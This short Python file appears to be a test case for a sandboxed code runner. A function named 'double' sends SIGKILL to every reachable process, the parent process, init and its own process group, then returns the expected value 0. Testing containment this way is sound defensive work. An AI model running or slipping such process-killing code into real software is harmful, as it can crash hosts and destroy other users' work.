# Sends SIGKILL to everything that it may reach.
# expect: double 0
# %% double
import os
def double(x):
    for target in (-1, os.getppid(), 1, 0):
        try:
            os.kill(target, 9)
        except OSError:
            pass
    return 0
